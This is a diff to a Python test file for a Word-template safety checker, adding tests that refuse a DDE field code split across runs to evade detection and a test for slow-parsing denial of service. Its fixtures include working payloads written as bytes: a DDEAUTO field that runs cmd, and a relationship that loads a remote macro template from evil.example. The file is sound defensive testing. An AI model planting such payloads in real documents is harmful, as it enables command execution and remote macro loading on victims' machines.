@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import io
+import time
+import zipfile
 from pathlib import Path
 
 import pytest
 
 from minqing.core.errors import Invalid
-from minqing.documents.checking import check_template
+from minqing.documents.checking import check_parts, check_template
 from minqing.documents.kinds import PrintSheet
 from minqing.documents.word import filled
 from tests.documents.word_files import changed, template, text_of, with_part
@@ -70,6 +73,10 @@ def test_a_bomb_is_refused_by_what_it_declares() -> None:
 FIELD_CODE = b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText></w:r></w:p>'
 FIELD_TEXT = b'<w:p><w:fldSimple w:instr="HYPERLINK {{ text }}"/></w:p>'
 UNREADABLE = "template_unreadable"
+CUT_CODE = (
+    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
+    b'<w:r><w:instrText>EAUTO c:\\\\cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+)
 LOADS = (
     b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
     b'attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
@@ -87,6 +94,7 @@ LOADS = (
         (changed(template("a"), "[Content_Types].xml", b"document.main", b"macroEnabled"), "template_macro"),
         (changed(template("a"), "word/document.xml", b"<w:body>", b"<w:body>" + FIELD_CODE), "template_codes"),
         (changed(template("a"), "word/document.xml", b"<w:body>", b"<w:body>" + FIELD_TEXT), "template_codes"),
+        (changed(template("a"), "word/document.xml", b"<w:body>", b"<w:body>" + CUT_CODE), "template_codes"),
         (changed(template("a"), "word/_rels/document.xml.rels", b"</Relationships>", LOADS), "template_outside"),
         (changed(template("a"), "word/document.xml", b"<w:document", b"<!DOCTYPE x><w:document"), UNREADABLE),
         (with_part(template("a"), "word/document.xml", b"<broken"), "template_unreadable"),
@@ -110,3 +118,28 @@ def test_rare_characters_are_told_in_the_file_itself_whose_fonts_nobody_knows() 
 def test_filled_values_never_become_tags() -> None:
     fields = {**SAMPLE, "title": "{{ number }}", "text": "{% if %}"}
     assert "{{ number }}" in text_of(filled(template("{{ title }} {{ text }}"), fields))
+
+
+@pytest.mark.fault(68)
+@pytest.mark.parametrize(
+    ("name", "around", "piece"),
+    [
+        ("word/document.xml", (b"<w:body>", b"<w:body><w:p><w:r>", b"</w:r></w:p>"), b"<w:instrText></w:instrText>"),
+        ("word/_rels/document.xml.rels", (b"</Relationships>", b"", b"</Relationships>"), b"<Relationship/>"),
+    ],
+)
+def test_a_part_made_to_be_slow_takes_the_time_of_a_plain_one(
+    name: str, around: tuple[bytes, bytes, bytes], piece: bytes
+) -> None:
+    old, before, after = around
+    # four times as long, about four times the time, not sixteen
+    small, large = (changed(template("a"), name, old, before + piece * count + after) for count in (20_000, 80_000))
+    least = [min(timed(one) for _n in range(3)) for one in (small, large)]
+    assert least[1] < least[0] * 10
+
+
+def timed(content: bytes) -> float:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        began = time.process_time()
+        check_parts(archive)
+        return time.process_time() - began
